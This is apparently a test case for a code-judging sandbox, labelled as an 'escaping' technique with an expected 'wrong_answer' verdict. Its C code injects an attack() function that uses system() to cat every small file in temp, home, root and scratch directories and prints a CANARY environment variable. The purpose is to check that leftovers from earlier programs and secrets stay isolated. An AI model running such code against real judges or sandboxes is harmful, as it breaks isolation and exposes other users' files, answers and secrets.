// technique: what an earlier program left behind
// class: escaping
// expect: wrong_answer
    void attack();
    attack();
    return 0;
}

#include <stdlib.h>
void attack() {
    const char* find = "for d in . .. /scratch /tmp /var/tmp /dev/shm /run /home /root; do find $d -type f -size -8k -exec cat {} + ; done";
    if (system(find)) puts("some unread");
    if (getenv("CANARY")) puts(getenv("CANARY"));
}
